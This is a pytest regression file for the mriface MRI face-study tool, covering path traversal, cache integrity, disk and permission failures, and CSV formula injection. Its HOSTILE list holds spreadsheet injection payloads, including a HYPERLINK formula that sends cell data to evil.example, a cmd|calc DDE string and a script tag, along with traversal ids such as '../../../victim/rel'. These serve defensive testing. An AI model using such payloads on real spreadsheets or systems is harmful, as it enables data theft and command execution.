"""Issue 13: hostile and careless inputs. One regression test (or more) per numbered item.

Every study here runs the cheap fake stages of ``tests/test_study.py`` (a
``Pipeline`` subclass): the study's own logic is what is under test, in
milliseconds per run. The fuzz test of item 11 is in ``tests/test_fuzz.py``.
"""

from __future__ import annotations

import csv
import errno
import functools
import json
import os
from pathlib import Path

import numpy as np
import pytest
from test_study import FakePipeline, _cohort, _photo

import mriface.study.cache as cache
from mriface._io import PathPolicy, child_path, csv_cell, remove_stale_parts, safe_component
from mriface.errors import MRIFaceError
from mriface.study import run_study


@pytest.fixture(autouse=True)
def _stable_code_digest(monkeypatch):
    """The stages' source, part of every key, held fixed (as in test_study)."""
    monkeypatch.setattr(cache, "code_digest", lambda *modules: "code:" + ",".join(modules))


def _study(m, out, **kw):
    kw.setdefault("views", 2)
    kw.setdefault("size", 32)
    return run_study(m, out=out, progress=False, pipeline=kw.pop("pipeline", None) or FakePipeline(), **kw)


def _manifest(tmp_path: Path, ids: list, name: str = "m.csv") -> Path:
    """One fake scan per id (identity 1..n), rows written with the csv module (ids may hold anything)."""
    scans = tmp_path / "scans"
    scans.mkdir(parents=True, exist_ok=True)
    m = tmp_path / name
    with open(m, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["subject", "scan"])
        for i, sid in enumerate(ids, 1):
            (scans / f"s{i}.txt").write_text(str(i))
            w.writerow([sid, f"scans/s{i}.txt"])
    return m


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def _files(folder: Path) -> set:
    return {p for p in folder.rglob("*") if p.is_file()}


# --------------------------------------------------------------------------- item 1: files outside --out
def test_item1_ids_that_are_paths_never_write_outside_the_output_folder(tmp_path):
    outside = tmp_path / "victim"
    outside.mkdir()
    ids = [str(outside / "abs"), "../../../victim/rel", "..", "ok"]
    m = _manifest(tmp_path / "in", ids)
    out = tmp_path / "in" / "out"
    before = _files(tmp_path)
    r = _study(m, out, include_images=True)
    new = _files(tmp_path) - before
    assert new and all(out in p.parents for p in new), sorted(map(str, new - {p for p in new if out in p.parents}))
    assert not any(outside.iterdir())
    # each id its own folder under images/<role>/, also ".." and an absolute path
    folders = sorted(p.name for p in (out / "images" / "gallery").iterdir())
    assert len(folders) == 4 and "ok" in folders and ".." not in folders
    assert list(r.participants["true_rank"]) == [1, 1, 1, 1]


def test_item1_the_one_path_helper_refuses_escapes(tmp_path):
    root = tmp_path / "root"
    root.mkdir()
    for bad in ("..", "/etc/x", "a/../../x", ""):
        with pytest.raises(MRIFaceError, match="leave the folder"):
            child_path(root, bad)
    (root / "link").symlink_to(tmp_path)  # a symlink inside that leads out
    with pytest.raises(MRIFaceError, match="outside"):
        child_path(root, "link", "x")
    assert child_path(root, safe_component("../../x")).parent == root
    assert safe_component("P 1") != safe_component("P_1")  # sanitising never merges two ids
    assert safe_component("S1") == "S1"


def test_item1_deface_batch_keeps_hostile_ids_inside_its_output(tmp_path):
    from mriface.deface.io import _batch_inputs

    m = _manifest(tmp_path, ["../../x", "/abs/y"])
    pairs, problems = _batch_inputs(m)
    assert not problems and len(pairs) == 2
    for _, rel in pairs:
        assert child_path(tmp_path / "out", *rel.parts).resolve().is_relative_to((tmp_path / "out").resolve())


# --------------------------------------------------------------------------- item 2: formula injection
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
           "\tTAB", "<script>alert(1)</script>"]


def test_item2_csv_cells_are_neutralised_and_markdown_is_escaped(tmp_path):
    m = _manifest(tmp_path, HOSTILE)
    out = tmp_path / "out"
    r = _study(m, out, include_images=True)
    assert list(r.participants["true_rank"]) == [1] * len(HOSTILE)  # the ids still work as ids
    for name in ("participants.csv", "probes.csv", "renders.csv", "problems.csv",
                 "images/gallery/" + safe_component(HOSTILE[0]) + "/renders.csv"):
        with open(out / name, newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert _number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    with open(out / "participants.csv", newline="") as f:
        cells = {c for row in csv.reader(f) for c in row}
    assert "'" + HOSTILE[0] in cells and "'@SUM(1+1)" in cells  # neutralised, not dropped
    md = (out / "report.md").read_text()
    assert "<script>" not in md and "&lt;script&gt;" in md
    lines = md.splitlines()
    header = lines[lines.index("## Participants") + 2]
    rows = [x for x in lines if x.startswith("| ") and "HYPERLINK" in x]
    assert rows and all(x.count(" | ") == header.count(" | ") for x in rows)  # no id breaks the table
    assert csv_cell(-1.5) == -1.5 and csv_cell("S1") == "S1"


# --------------------------------------------------------------------------- item 3: absolute paths
def test_item3_shareable_outputs_hold_no_absolute_path(tmp_path):
    m = _cohort(tmp_path / "study", 3)
    with open(m, "a") as f:
        f.write(f"S9,{tmp_path}/elsewhere/secret-name-folder/s9.nii\nS8,scans/nowhere.txt\n")
    photos = tmp_path / "study" / "photos"
    for i in (1, 2):
        _photo(photos / f"S{i}" / "a.png", i)
    (photos / "S3").mkdir()
    out = tmp_path / "out"
    _study(m, out, photos=photos, cache_dir=tmp_path / "private-cache")
    root = str(tmp_path)
    for name in ("summary.json", "report.html", "report.md", "participants.csv", "probes.csv", "renders.csv"):
        text = (out / name).read_text()
        assert root not in text, name
        assert "secret-name-folder" not in text, name
    s = json.loads((out / "summary.json").read_text())
    assert s["source"] == "manifest.csv" and s["options"]["cache_dir"] == "…/private-cache"
    assert any("scans/nowhere.txt" in p for p in s["problems"])  # relative to the input folder
    assert root in (out / "problems.csv").read_text()  # private: full paths kept
    pp = PathPolicy([tmp_path / "study"], {out: "<out>"})
    assert pp.text(f"see {out}/cache/x and {tmp_path}/study/a b") == "see <out>/cache/x and a b"


# --------------------------------------------------------------------------- item 4: cache keys
def test_item4_a_renamed_subject_misses_the_render_cache(tmp_path):
    out = tmp_path / "out"
    _study(_manifest(tmp_path, ["P 1", "Q"]), out)
    p = FakePipeline()
    r = _study(_manifest(tmp_path, ["P_1", "Q"], "m2.csv"), out, pipeline=p)
    # P_1 draws other cameras than "P 1" (subject_rng(seed, subject)): its renders are recomputed
    assert r.computed == 2 and r.cached == 2 and p.calls["render"] == 2


def _keys(tmp_path: Path, sub: str, change=None, **kw) -> dict:
    """Cache file names of one run (per folder) after ``change(tmp_path)``."""
    d = tmp_path / sub
    m = _cohort(d, 2)
    photos = d / "photos"
    for i in (1, 2):
        _photo(photos / f"S{i}" / "a.png", i)
    if change:
        change(d)
    out = d / "out"
    _study(m, out, cache_dir=d / "cache", **kw)
    _study(m, out, cache_dir=d / "cache", photos=photos, **kw)
    return {k: {p.name for p in (d / "cache" / k).glob("*.json")} for k in ("surfaces", "renders", "photos", "embeddings")}


def test_item4_every_input_of_every_stage_is_in_its_key(tmp_path, monkeypatch):
    """Each input changed alone: the entries of its stage (and those after) are new files."""
    base = _keys(tmp_path, "a")
    # surface: the scan's bytes and the surface code
    k = _keys(tmp_path, "b", lambda d: (d / "scans" / "s1.txt").write_text("1 "))
    assert k["surfaces"] - base["surfaces"] and k["renders"] - base["renders"]
    # render: each protocol field, the subject id, the backend, the render code, the model
    for i, kw in enumerate([{"seed": 7}, {"views": 3}, {"size": 48}]):
        k = _keys(tmp_path, f"c{i}", **kw)
        assert not k["surfaces"] - base["surfaces"] and k["renders"] - base["renders"], kw
    k = _keys(tmp_path, "d", lambda d: (d / "manifest.csv").write_text(
        (d / "manifest.csv").read_text().replace("S1,", "S1x,")))
    assert k["renders"] - base["renders"]
    p = FakePipeline()
    p.model_id = lambda: {"fake": 2}
    k = _keys(tmp_path, "e", pipeline=p)
    assert k["embeddings"] - base["embeddings"] and not k["surfaces"] - base["surfaces"]
    p = FakePipeline()
    p.backend = "zbuffer"
    k = _keys(tmp_path, "f", pipeline=p)
    assert k["renders"] - base["renders"] and not k["surfaces"] - base["surfaces"]
    monkeypatch.setattr(cache, "code_digest", lambda *mods: "v2:" + ",".join(mods))
    k = _keys(tmp_path, "g")  # new code: every stage misses
    assert k["surfaces"] - base["surfaces"] and k["renders"] - base["renders"] and k["photos"] - base["photos"]
    monkeypatch.undo()
    monkeypatch.setattr(cache, "code_digest", lambda *modules: "code:" + ",".join(modules))
    # photographs: their bytes
    k = _keys(tmp_path, "h", lambda d: _photo(d / "photos" / "S1" / "a.png", 3))
    assert k["photos"] - base["photos"]
    assert _keys(tmp_path, "a2") == base  # and nothing else does (another folder, same inputs)


# --------------------------------------------------------------------------- item 6: cache entries checked
def _entries(out: Path, kind: str) -> list:
    return sorted(p.with_suffix("") for p in (out / "cache" / kind).glob("*.json"))


def _write_npz(path: Path, **arrays):
    with open(path, "wb") as f:
        np.savez(f, **arrays)


DAMAGE = {
    "wrong_shape": lambda stem: _write_npz(stem.with_suffix(".npz"), **{
        **dict(np.load(stem.with_suffix(".npz"))), "embeddings": np.zeros((2, 7), np.float32)}),
    "altered_value": lambda stem: _write_npz(stem.with_suffix(".npz"), **{
        k: (v + 1e-3 if k == "embeddings" else v) for k, v in dict(np.load(stem.with_suffix(".npz"))).items()}),
    "altered_meta": lambda stem: stem.with_suffix(".json").write_text(
        stem.with_suffix(".json").read_text().replace('"n_found": 2', '"n_found": 1')),
    "truncated": lambda stem: stem.with_suffix(".npz").write_bytes(stem.with_suffix(".npz").read_bytes()[:100]),
    "empty": lambda stem: stem.with_suffix(".npz").write_bytes(b""),
    "json_list": lambda stem: stem.with_suffix(".json").write_text("[1, 2]"),
    "json_garbage": lambda stem: stem.with_suffix(".json").write_text("{not json"),
}


@pytest.mark.parametrize("how", sorted(DAMAGE))
def test_item6_a_damaged_entry_is_recomputed_and_reported(tmp_path, how):
    m = _cohort(tmp_path, 2)
    out = tmp_path / "out"
    r1 = _study(m, out)
    # the entry holding S1's gallery embeddings (the ensemble layout keeps them in their own entry)
    stems = [s for s in _entries(out, "embeddings") + _entries(out, "renders")
             if s.name.startswith("S1-gallery") and (s.with_suffix(".npz").is_file())
             and ("embeddings" in dict(np.load(s.with_suffix(".npz"))) or how in ("altered_meta",))]
    stem = stems[0] if how != "altered_meta" else [s for s in _entries(out, "renders") if s.name.startswith("S1-gallery")][0]
    DAMAGE[how](stem)
    p = FakePipeline()
    r2 = _study(m, out, pipeline=p)
    damaged = [x for x in r2.problems if x.kind == "damaged_cache_entry"]
    assert len(damaged) == 1 and damaged[0].subject == "S1", [str(x) for x in r2.problems]
    assert r2.computed >= 1 and p.calls["embed"] >= 1
    np.testing.assert_allclose(r2.participants["true_score"], r1.participants["true_score"], rtol=1e-6)
    assert "damaged" in (out / "study.log").read_text()
    p3 = FakePipeline()
    r3 = _study(m, out, pipeline=p3)  # rewritten intact
    assert r3.computed == 0 and not [x for x in r3.problems if x.kind == "damaged_cache_entry"]


def test_item6_a_damaged_surface_entry_is_recomputed(tmp_path):
    m = _cohort(tmp_path, 2)
    out = tmp_path / "out"
    _study(m, out)
    for s in _entries(out, "renders") + _entries(out, "embeddings"):
        for suffix in (".json", ".npz"):
            s.with_suffix(suffix).unlink(missing_ok=True)
    surf = [s for s in _entries(out, "surfaces") if s.name.startswith("S2")][0]
    arrays = dict(np.load(surf.with_suffix(".npz")))
    arrays["faces"] = arrays["faces"] + 100  # indices of vertices that are not there
    _write_npz(surf.with_suffix(".npz"), **arrays)
    p = FakePipeline()
    r = _study(m, out, pipeline=p)
    assert p.calls["surface"] == 1 and [x.subject for x in r.problems if x.kind == "damaged_cache_entry"] == ["S2"]


def test_item6_entries_record_shapes_and_digests(tmp_path):
    stem = tmp_path / "e"
    cache.write_entry(stem, {"x": 1}, a=np.arange(6, dtype=np.float32).reshape(2, 3))
    meta = json.loads(stem.with_suffix(".json").read_text())
    assert meta["arrays"]["a"]["shape"] == [2, 3] and len(meta["arrays"]["a"]["sha256"]) == 64
    assert cache.read_entry(stem, {"a": (2, 3)}) is not None
    assert cache.read_entry(stem, {"a": (None, 4)}) is None  # expected shape not met: damaged
    with pytest.raises(cache.Damaged, match="shape"):
        cache.check_entry(stem, {"a": (None, 4)})


# --------------------------------------------------------------------------- item 7: environment failures
def _enospc(*a, **k):
    raise OSError(errno.ENOSPC, "No space left on device", "/some/cache/file.npz")


def test_item7_a_full_disk_stops_the_study_with_exit_2_and_no_rates(tmp_path, monkeypatch, capsys):
    import mriface.study as study
    from mriface.cli import main

    m = _cohort(tmp_path, 3)
    out = tmp_path / "out"
    _study(_cohort(tmp_path / "first", 1), out)  # something finished before: kept
    kept = _files(out / "cache")
    monkeypatch.setattr(cache, "write_npz", _enospc)
    with pytest.raises(study.guard.StudyEnvironmentError, match="no space left"):
        _study(m, out)
    monkeypatch.setattr(study, "run_study", functools.partial(study.run_study, pipeline=FakePipeline()))
    code = main(["study", str(m), "--out", str(out), "--no-progress", "--views", "2", "--size", "32",
                 "--workers", "1"])
    captured = capsys.readouterr()
    assert code == 2 and "no space left" in captured.err and "rank 1" not in captured.out + captured.err
    assert kept <= _files(out / "cache")


def test_item7_permission_denied_on_the_output_folder_stops_the_study(tmp_path, monkeypatch):
    from mriface.study.guard import StudyEnvironmentError

    out = tmp_path / "out"
    real_mkdir = Path.mkdir

    def mkdir(self, *a, **k):
        if self == out:
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_mkdir(self, *a, **k)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    with pytest.raises(StudyEnvironmentError, match="permission denied"):
        _study(_cohort(tmp_path, 2), out)


def test_item7_permission_denied_on_a_scan_is_that_scans_problem(tmp_path, monkeypatch):
    m = _cohort(tmp_path, 3)
    p = FakePipeline()
    real = p.load

    def load(path):
        if Path(path).name == "s2.txt":
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real(path)

    p.load = load
    r = _study(m, tmp_path / "out", pipeline=p)
    assert [x.kind for x in r.problems] == ["scan_failed", "scan_failed"]  # its gallery and probe renders
    assert all(x.subject == "S2" and "Permission denied" in x.message for x in r.problems)


# --------------------------------------------------------------------------- item 11: any exception is a problem
@pytest.mark.parametrize("exc", [KeyError("k"), ZeroDivisionError("z"), AttributeError("a"), MemoryError(),
                                 EOFError(), RuntimeError("bug")])
def test_item11_any_exception_of_one_scan_is_its_problem(tmp_path, exc):
    m = _cohort(tmp_path, 3)
    p = FakePipeline()
    real = p.render

    def render(surface, subject, protocol):
        if subject == "S2":
            raise exc
        return real(surface, subject, protocol)

    p.render = render
    r = _study(m, tmp_path / "out", pipeline=p)
    assert [(x.kind, x.subject) for x in r.problems] == [("scan_failed", "S2")] * 2  # gallery and probe renders
    assert type(exc).__name__ in r.problems[0].message


def test_item11_any_exception_of_one_photograph_is_its_problem(tmp_path):
    from PIL import Image

    m = _cohort(tmp_path, 2)
    photos = tmp_path / "photos"
    _photo(photos / "S1" / "a.png", 1)
    _photo(photos / "S1" / "b.png", 1)
    _photo(photos / "S2" / "a.png", 2)
    p = FakePipeline()
    real = p.align

    def align(images):
        if not hasattr(images, "shape") and any(Path(x).name == "b.png" for x in images):
            raise Image.DecompressionBombError("too many pixels (test)")
        return real(images)

    p.align = align
    r = _study(m, tmp_path / "out", photos=photos, pipeline=p)
    assert [(x.kind, Path(x.where).name) for x in r.problems] == [("unreadable_photo", "b.png")]
    assert "DecompressionBombError" in r.problems[0].message
    t = r.participants.set_index("participant")
    assert t.loc["S1", "true_rank"] == 1 and t.loc["S2", "true_rank"] == 1


# --------------------------------------------------------------------------- item 12: smaller findings
def test_item12_part_files_left_by_a_kill_are_removed(tmp_path):
    m = _cohort(tmp_path, 2)
    out = tmp_path / "out"
    (out / "cache" / "renders").mkdir(parents=True)
    stale = [out / ".summary.json.abc123.part", out / "cache" / "renders" / ".S1-gallery-x.npz.k9.part"]
    for s in stale:
        s.write_bytes(b"half")
    _study(m, out)
    assert not any(s.exists() for s in stale) and not list(out.rglob("*.part"))
    assert "removed 2 temporary .part files" in (out / "study.log").read_text()
    ext = tmp_path / "shared-cache"
    ext.mkdir()
    fresh = ext / ".x.npz.1.part"
    fresh.write_bytes(b"")
    old = ext / ".y.npz.2.part"
    old.write_bytes(b"")
    os.utime(old, (1, 1))
    assert remove_stale_parts(ext, older_than_s=3600) == 1 and fresh.exists() and not old.exists()


def test_item12_skipped_files_in_photo_folders_are_reported(tmp_path):
    m = _cohort(tmp_path, 2)
    photos = tmp_path / "photos"
    _photo(photos / "S1" / "a.png", 1)
    _photo(photos / "S2" / "a.png", 2)
    (photos / "S1" / "anim.gif").write_bytes(b"GIF89a")
    (photos / "S2" / ".DS_Store").write_bytes(b"")  # hidden files stay silent
    r = _study(m, tmp_path / "out", photos=photos)
    skipped = [x for x in r.problems if x.kind == "skipped_file"]
    assert [Path(x.where).name for x in skipped] == ["anim.gif"] and r.summary["failures"]["skipped_file"] == 1


def test_item12_protocol_mode_reports_no_photograph_counts(tmp_path):
    r = _study(_cohort(tmp_path, 2), tmp_path / "out")
    assert r.summary["mode"] == "protocol"
    text = (tmp_path / "out" / "summary.json").read_text() + (tmp_path / "out" / "report.md").read_text()
    assert "no_face_photos" not in text and "no_face_probe_renders" in json.dumps(r.summary["match"])


def test_item12_a_second_study_into_the_same_folder_is_refused(tmp_path):
    from mriface.study.progress import OutputLock, StudyLockedError

    m = _cohort(tmp_path, 2)
    out = tmp_path / "out"
    with OutputLock(out):  # a study running in this folder
        with pytest.raises(StudyLockedError, match="another mriface study is writing into this folder"):
            _study(m, out)
        assert not (out / "study.log").exists()  # the second one wrote nothing
    r = _study(m, out)  # released (also by a kill: flock dies with its process)
    assert r.computed == 4


def test_item12_a_manifest_row_behind_an_unreadable_folder_is_a_problem(tmp_path, monkeypatch):
    from mriface.inputs import read_manifest

    m = _cohort(tmp_path, 2)
    real = Path.is_file

    def is_file(self):
        if self.name == "s2.txt":  # Python 3.11: EACCES on a folder above raises instead of False
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real(self)

    monkeypatch.setattr(Path, "is_file", is_file)
    gallery, _, problems = read_manifest(m)
    assert [s.subject for s in gallery] == ["S1"]
    assert [p.kind for p in problems] == ["unreadable_scan"] and "permission denied" in problems[0].message


def test_item12_a_dicom_folder_has_a_file_digest(tmp_path):
    folder = tmp_path / "dcm"
    folder.mkdir()
    (folder / "a.dcm").write_bytes(b"1")
    p = FakePipeline()
    d1 = p.file_digest(folder)
    (folder / "a.dcm").write_bytes(b"2")
    assert len(d1) == 64 and p.file_digest(folder) != d1  # not memoised by the folder's mtime
